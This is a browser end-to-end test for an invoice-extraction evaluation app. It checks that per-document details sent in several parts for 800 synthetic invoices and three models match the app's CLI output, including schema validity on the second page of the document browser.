test('22. a report\'s document details arrive in parts after it and join it whole: every document of 800 × 3 models equal to the CLI\'s, before and after the schema validity', async (t) => {
  // 800 invoices × 3 models: about 60,000 compared values, sent in several
  // parts (protocol::in_parts); the page draws the tables at once and the
  // document browser once every part is in.
  const { dir, paths } = synthFiles('parts', 800, 22);
  const { page, assertNoErrors } = await openApp(t);
  await clearFiles(page);
  await page.setInputFiles('[data-testid=file-input]', paths);
  await waitForLoaded(page, 5, ['good', 'conservative', 'aggressive']);
  const browserCard = page.locator('[data-testid=document-browser]');
  await browserCard.locator('tbody tr[data-doc]').first().waitFor({ timeout: 60_000 });
  await page.waitForSelector('[data-testid=validity-pending]', { state: 'detached', timeout: 60_000 });
  await page.waitForSelector('[data-testid=busy]', { state: 'detached' });
  assert.equal((await browserCard.locator('.count').textContent()).trim(), '800 documents');
  assert.equal((await browserCard.locator('.pager span').textContent()).trim(), 'page 1 of 32');
  // The report the page holds, details included, is the CLI's.
  const args = ['eval', '--truth', 'truth.jsonl', '--pred', 'good.jsonl', '--pred', 'conservative.jsonl', '--pred', 'aggressive.jsonl', '--schema', 'invoice.schema.json', '--details', '--format', 'json'];
  const cli = JSON.parse(execFileSync(CLI, args, { cwd: dir, encoding: 'utf8', maxBuffer: 1 << 28 }));
  const json = JSON.parse((await download(page, 'export-json')).text);
  assert.deepEqual(json.models.map((m) => m.name), cli.models.map((m) => m.name));
  for (const [i, model] of cli.models.entries()) {
    const shown = json.models[i].document_details;
    assert.equal(shown.length, 800, `${model.name}: every document's details`);
    assert.deepEqual(shown.map((d) => d.id), model.document_details.map((d) => d.id), `${model.name}: in the truth's order`);
    assertClose(shown, model.document_details, `${model.name}: document details`);
  }
  // The validity came after the provisional report: the schema column
  // says what the CLI says (here on the second page).
  const invalid = cli.models[0].document_details.filter((d) => !d.schema_valid).map((d) => d.id);
  assert.ok(invalid.length > 0, 'the synthetic set has invalid predictions');
  await page.selectOption('[data-testid=doc-model]', { label: cli.models[0].name });
  await browserCard.locator('.pager button').last().click();
  await page.waitForFunction(() => document.querySelector('[data-testid=document-browser] .pager span')?.textContent.includes('page 2 of 32'));
  const rows = await browserCard.locator('tbody tr[data-doc]').evaluateAll((trs) => trs.map((tr) => [tr.dataset.doc, tr.lastElementChild.textContent.trim()]));
  const expected = cli.models[0].document_details.slice(25, 50).map((d) => [d.id, d.schema_valid ? 'valid' : 'invalid']);
  assert.deepEqual(rows, expected);
  await page.screenshot({ path: join(SHOTS, '22-details-in-parts.png') });
  assertNoErrors();
});
